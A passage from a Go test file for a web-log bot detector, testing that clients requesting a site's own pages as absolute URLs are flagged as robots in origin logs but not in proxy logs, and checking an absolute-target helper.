			t.Errorf("sameHost(%q, %q) = %v, want %v", tt.target, tt.referer, got, tt.want)
		}
	}
}

// TestOwnAbsoluteURLs: a client that writes the site's own pages as
// absolute URLs (its Referer names the host) is a robot, as no browser
// writes them so to a web server, but no proxy prober; in a proxy's log,
// where every request is written so, it is neither.
func TestOwnAbsoluteURLs(t *testing.T) {
	const firefox = "Mozilla/5.0 (Windows NT 6.1; rv:32.0) Gecko/20100101 Firefox/32.0"
	spam := []req{
		{ip: "192.0.2.9", ua: firefox, path: "http://howto.example.nl/join_form", referer: "http://howto.example.nl/"},
		{ip: "192.0.2.9", ua: firefox, sec: 15, method: "POST", path: "http://howto.example.nl/join_form", status: 302, referer: "http://howto.example.nl/join_form"},
	}
	var person []req // most of the log: requests written as browsers write them
	for i, p := range []string{"/", "/site.css", "/logo.png", "/about", "/site.css", "/join_form"} {
		person = append(person, req{ip: "203.0.113.1", ua: firefox, sec: i, path: p, referer: "http://howto.example.nl/"})
	}
	proxied := []req{{ip: "203.0.113.1", ua: firefox, path: "http://www.example.org/"}, {ip: "203.0.113.2", ua: firefox, path: "http://www.example.org/a"},
		{ip: "203.0.113.3", ua: firefox, path: "http://www.example.org/b"}}
	tests := []struct {
		name  string
		reqs  []req
		robot bool
	}{
		{"origin log", append(person, spam...), true},
		{"proxy log", append(proxied, spam...), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := verdictOf(t, run(Config{}, tt.reqs), "192.0.2.9", firefox)
			if v.Robot != tt.robot || slices.Contains(v.Reasons, findings.ReasonScanner) || v.Kind == findings.KindScanner {
				t.Errorf("robot %v, kind %q, reasons %v, details %q; want robot %v, no scanner", v.Robot, v.Kind, v.Reasons, v.Details, tt.robot)
			}
		})
	}
}

// TestAbsoluteTargetFirstByte: the first-byte test agrees with the
// prefixes it stands before.
func TestAbsoluteTargetFirstByte(t *testing.T) {
	for _, target := range []string{"", "/", "h", "http:/", "http://", "https://", "http://a/b", "https://a",
		"HTTP://a/", "hxxp://a", "/http://a", "ftp://a", "*", "example.com:443"} {
		for _, vhost := range []string{"", "example.com"} {
			for _, protocol := range []string{"", "HTTP/1.1", "HTTP/2.0", "HTTP/3"} {
				want := vhost == "" && !strings.HasPrefix(protocol, "HTTP/2") && !strings.HasPrefix(protocol, "HTTP/3") &&
					(strings.HasPrefix(target, "http://") || strings.HasPrefix(target, "https://"))
				if got := absoluteTarget(target, vhost, protocol); got != want {
					t.Errorf("absoluteTarget(%q, %q, %q) = %v, want %v", target, vhost, protocol, got, want)
				}
			}
		}
	}
}
